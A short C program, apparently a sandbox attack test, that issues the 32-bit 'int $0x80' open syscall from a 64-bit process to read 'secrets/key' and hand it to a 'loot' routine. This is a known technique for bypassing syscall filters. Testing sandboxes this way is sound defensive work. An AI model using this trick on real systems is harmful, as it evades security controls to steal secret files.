/* Open the secret by the 32-bit entry of a 64-bit process. */
#include "attack.h"
int main(void) {
#ifdef __x86_64__
    static char path[] = "secrets/key";
    long result;
    __asm__ volatile("int $0x80"
                     : "=a"(result)
                     : "0"(5L), "b"(path), "c"(0L), "d"(0L)
                     : "memory", "r8", "r9", "r10", "r11");
    loot((int)result);
#endif
    return 0;
}
